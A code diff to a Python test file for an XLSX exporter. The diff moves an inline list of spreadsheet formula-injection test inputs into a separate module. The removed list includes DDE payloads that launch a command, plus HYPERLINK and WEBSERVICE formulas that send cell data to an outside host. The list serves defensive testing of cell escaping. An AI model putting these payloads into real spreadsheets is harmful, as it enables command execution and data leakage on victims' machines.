@@ -17,44 +17,12 @@ from documents import xlsx
 from documents.model import Column, Document, Grid, Heading, Paragraph
 from documents.xlsx_cells import CELL_LIMIT
 from tests.depth import examples
+from tests.documents.formulas import FORMULAS
 
 SEOUL = ZoneInfo("Asia/Seoul")
 AS_OF = "기준일시 2024. 10. 8.(화) 14:00"
 NARROWED = "조건: 추진 상태 지연"
 DEMO = "시연 | 진척은 화면 설명용 가상 값입니다."
-
-FORMULAS = [
-    "=1+1",
-    '=cmd|" /C calc"!A0',
-    '=HYPERLINK("http://example.invalid/?"&A1,"눌러 주세요")',
-    '=WEBSERVICE("http://example.invalid")',
-    "={1,2}",
-    "==1",
-    "=",
-    "+1+1",
-    "+cmd|'/C calc'!A0",
-    "-1+1",
-    "-2-3",
-    "- 용인 국가산단 후속 협의",
-    "@SUM(1+1)",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    " =1+1",
-    "　=1+1",
-    "＝1+1",
-    "＋1+1",
-    "－1+1",
-    "＠SUM(1)",
-    "\ufeff=1+1",
-    "\x00=1+1",
-    "\x0b=1+1",
-    "#N/A",
-    "#REF!",
-    "0x1F",
-    "1E5",
-    "'=1+1",
-]
 
 
 def wall_clock(*parts: int) -> datetime:
